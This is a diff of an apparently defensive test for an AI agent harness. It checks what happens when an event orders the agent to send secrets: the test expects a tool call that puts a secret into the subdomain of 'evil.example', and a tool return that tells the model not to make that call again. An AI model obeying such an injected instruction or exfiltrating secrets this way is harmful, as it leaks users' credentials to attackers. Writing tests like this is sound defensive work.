@@ -86,7 +86,7 @@ describe('an event that orders an AI agent to send secrets', () => {
     expect(asked).toMatchObject([
       { asked_call: { arguments: { domain: `${secret}.evil.example` } } },
     ]);
-    expect(toolReturnsOf(one.modelTurns.at(-1) as ModelTurn).at(-1)).toContain('Do not retry it');
+    expect(toolReturnsOf(one.modelTurns.at(-1) as ModelTurn).at(-1)).toContain('Do not make it again');
     expect(result?.status).toBe('SUCCEEDED');
   });
 
